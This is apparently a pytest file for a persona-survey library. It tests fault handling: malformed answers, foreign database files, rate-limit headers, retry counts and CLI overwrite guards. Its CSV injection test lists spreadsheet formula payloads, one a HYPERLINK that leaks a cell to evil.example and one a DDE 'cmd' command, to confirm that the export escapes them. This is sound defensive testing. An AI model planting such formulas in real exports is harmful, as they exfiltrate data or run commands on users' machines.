"""Faults a survey meets in one process: odd answers, foreign files, lying headers, 429s, CSV formulas."""

from __future__ import annotations

import csv
import hashlib
import json
import logging
import sqlite3
from collections import Counter
from collections.abc import Iterator
from contextlib import closing
from pathlib import Path
from typing import Any

import pytest

from langchain_mavera import ChatMavera, PersonaSurvey
from langchain_mavera.survey._pacing import Pacer
from langchain_mavera.survey._store import APPLICATION_ID
from langchain_mavera.survey.cli import main
from langchain_mavera.survey.results import SurveyAnswer, SurveyResult
from tests.emulator import ROUTES, Emulator, Fault, Route, chat, run_emulator
from tests.emulator.wire import JsonReply, RawReply
from tests.survey.conftest import cell_of, chat_posts

pytestmark = pytest.mark.loopback

PERSONAS = ["Gen Z Consumer", "SaaS CMO"]
QUESTIONS = ["Would you pay more for refillable soap?", "Would you switch brands?"]


def survey(model: ChatMavera, store: Path | None, **options: Any) -> PersonaSurvey:
    settings: dict[str, Any] = {"questions": QUESTIONS, "personas": PERSONAS, "progress": False}
    settings.update(options)
    return PersonaSurvey(model=model, store=store, **settings)


# -- 1. an answer holding a lone surrogate ------------------------------------------------------


def _half_emoji_for_cmo(ctx: Any) -> Any:
    reply = chat.create_chat_completion(ctx)
    if (ctx.body or {}).get("persona_id") != "clx2xyz9e0002abcdef789012" or not isinstance(reply, JsonReply):
        return reply
    body = json.loads(json.dumps(reply.body))
    body["choices"][0]["message"]["content"] = "Love it \ud83d (half an emoji)"
    # json.dumps escapes the surrogate (\ud83d): valid JSON, as a server may send it.
    return RawReply(json.dumps(body).encode(), "application/json")


@pytest.fixture
def odd_emu() -> Iterator[Emulator]:
    routes = tuple(
        Route(r.method, r.template, _half_emoji_for_cmo) if r.template == "/chat/completions" else r
        for r in ROUTES
    )
    with run_emulator(routes=routes) as emulator:
        yield emulator


def test_an_answer_with_a_lone_surrogate_is_stored_with_a_note(odd_emu: Emulator, tmp_path: Path) -> None:
    model = ChatMavera(base_url=odd_emu.base_url, api_key=odd_emu.api_key, max_tokens=40, max_retries=0)
    store = tmp_path / "s.sqlite"
    result = survey(model, store).run()

    assert [a.status for a in result.answers] == ["done"] * 4
    odd = [a for a in result.answers if a.persona_name == "SaaS CMO"]
    assert all(a.answer == "Love it \ufffd (half an emoji)" for a in odd)
    assert all(a.note and "surrogate" in a.note for a in odd)
    assert all(a.note is None for a in result.answers if a.persona_name != "SaaS CMO")
    again = survey(model, store).run()
    assert len(chat_posts(odd_emu)) == 4  # nothing bought twice
    assert again.to_records() == result.to_records()


# -- 6. a store path that is another application's file ------------------------------------------


def _digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def test_another_applications_database_is_refused_untouched(
    emu: Emulator, model: ChatMavera, tmp_path: Path
) -> None:
    theirs = tmp_path / "app.db"
    with closing(sqlite3.connect(theirs)) as db:
        db.execute("CREATE TABLE notes (body TEXT)")
        db.execute("INSERT INTO notes VALUES ('mine')")
        db.commit()
    before = _digest(theirs)

    with pytest.raises(ValueError, match="another application's SQLite database"):
        survey(model, theirs).run()

    assert _digest(theirs) == before
    assert not Path(f"{theirs}-wal").exists()
    assert chat_posts(emu) == []


def test_a_file_that_is_not_sqlite_is_refused_untouched(
    emu: Emulator, model: ChatMavera, tmp_path: Path
) -> None:
    notes = tmp_path / "notes.txt"
    notes.write_text("my notes\n" * 50)
    with pytest.raises(ValueError, match="not an SQLite file"):
        survey(model, notes).run()
    assert notes.read_text() == "my notes\n" * 50
    assert chat_posts(emu) == []


def test_a_store_is_marked_and_an_unmarked_store_of_ours_is_adopted(
    emu: Emulator, model: ChatMavera, tmp_path: Path
) -> None:
    store = tmp_path / "s.sqlite"
    survey(model, store).run()
    with closing(sqlite3.connect(store)) as db:
        assert db.execute("PRAGMA application_id").fetchone()[0] == APPLICATION_ID
        db.execute("PRAGMA application_id=0")  # as a store written before stores were marked
        db.execute("PRAGMA user_version=0")
    again = survey(model, store).run()
    assert len(again.succeeded) == 4
    assert len(chat_posts(emu)) == 4


# -- 8. X-RateLimit-Limit against the user's rate --------------------------------------------------


def test_a_header_may_lower_a_given_rate_only_within_bounds(caplog: pytest.LogCaptureFixture) -> None:
    pacer = Pacer(600)
    pacer.observe({"limit": 1200})
    assert pacer.limit == 600  # a ceiling: never raised
    pacer.observe({"limit": 300})
    assert pacer.limit == 300  # lowered within reason
    with caplog.at_level(logging.WARNING, logger="langchain_mavera.survey._pacing"):
        pacer.observe({"limit": 1})
        pacer.observe({"limit": 1})
    assert pacer.limit == 150  # bounded: a quarter of the given 600
    assert len(caplog.records) == 1  # said once, at WARNING
    assert "X-RateLimit-Limit says 1" in caplog.records[0].getMessage()


def test_a_learnt_rate_that_collapses_is_logged(caplog: pytest.LogCaptureFixture) -> None:
    pacer = Pacer()
    pacer.observe({"limit": 600})
    with caplog.at_level(logging.WARNING, logger="langchain_mavera.survey._pacing"):
        pacer.observe({"limit": 60})
    assert pacer.limit == 60
    assert [r.levelno for r in caplog.records] == [logging.WARNING]


# -- 9. attempts count every request, the SDK's retries included ----------------------------------


def test_attempts_count_every_request_sent(emu: Emulator) -> None:
    model = ChatMavera(base_url=emu.base_url, api_key=emu.api_key, max_tokens=40)  # max_retries=2
    emu.faults.push(Fault("status", status=429, retry_after=1, times=2))
    emu.faults.push(Fault("status", status=503, times=1))
    result = survey(model, None, max_concurrency=1, requests_per_minute=600).run()

    assert [a.status for a in result.answers] == ["done"] * 4
    sent = Counter(cell_of(r) for r in chat_posts(emu))
    assert sum(a.attempts for a in result.answers) == sum(sent.values()) == 7
    assert max(a.attempts for a in result.answers) == 4  # 429, 429, 503, then the answer


# -- 5. CSV injection ------------------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"Click")',
    "=cmd|' /C calc'!A0",
    "+1",
    "-2",
    "@SUM(A1)",
]


def _result(answers: list[str]) -> SurveyResult:
    cells = [
        SurveyAnswer(question=f"Q{i}", persona_id="p", persona_name="P", status="done", answer=text)
        for i, text in enumerate([*answers, "\tx", "\rx", "plain"])
    ]
    return SurveyResult(answers=cells)


def _answers(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as handle:
        return [row["answer"] for row in csv.DictReader(handle)]


def test_to_csv_neutralises_formulas_unless_told_not_to(tmp_path: Path) -> None:
    result = _result(FORMULAS)
    safe = _answers(result.to_csv(tmp_path / "safe.csv"))
    assert safe == ["'" + f for f in FORMULAS] + ["'\tx", "'\rx", "plain"]
    raw = _answers(result.to_csv(tmp_path / "raw.csv", escape_formulas=False))
    assert raw == [*FORMULAS, "\tx", "\rx", "plain"]


# -- 7. the command line never writes over its own inputs ------------------------------------------


@pytest.mark.parametrize("option", ["--out", "--heatmap", "--biases"])
@pytest.mark.parametrize("target", ["store", "questions"])
def test_cli_refuses_an_output_that_is_an_input(
    emu: Emulator,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    option: str,
    target: str,
) -> None:
    monkeypatch.setenv("MAVERA_API_KEY", emu.api_key)
    monkeypatch.setenv("MAVERA_BASE_URL", emu.base_url)
    questions = tmp_path / "questions.txt"
    questions.write_text("Would you pay more for refillable soap?\n")
    store = tmp_path / "s.sqlite"
    paths = {"store": store, "questions": questions}
    argv = ["--quiet", "--questions", str(questions), "--persona", "SaaS CMO", "--store", str(store)]
    code = main([*argv, option, str(tmp_path / "." / paths[target].name)])

    assert code == 2
    assert "it would be overwritten" in capsys.readouterr().err
    assert chat_posts(emu) == []
    assert questions.read_text() == "Would you pay more for refillable soap?\n"
